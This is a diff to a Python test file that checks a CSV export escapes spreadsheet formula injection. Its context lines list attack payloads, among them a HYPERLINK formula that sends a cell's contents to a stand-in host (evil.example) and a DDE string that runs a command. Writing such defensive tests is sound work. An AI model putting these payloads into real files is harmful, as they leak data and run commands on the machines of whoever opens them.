@@ -12,6 +12,7 @@ from facilitator.core.db import Database
 from facilitator.core.participants import participation
 from facilitator.export import participants as participant_export
 from facilitator.export.spreadsheet import FORMULA_TRIGGERS, csv_text, neutralise
+from tests.strategies import UNICODE
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip
@@ -29,7 +30,7 @@ def test_every_participant_csv_cell_is_inert(demo_db: Database) -> None:
     assert sum(cell.startswith("'") for cell in cells) >= 2 * len(ATTACKS)  # organisation and role of each
 
 
-@given(st.text(max_size=40))
+@given(st.text(UNICODE, max_size=40))
 def test_neutralised_text_never_starts_like_a_formula_and_keeps_its_content(value: str) -> None:
     shown = neutralise(value)
     assert not shown.startswith(FORMULA_TRIGGERS)
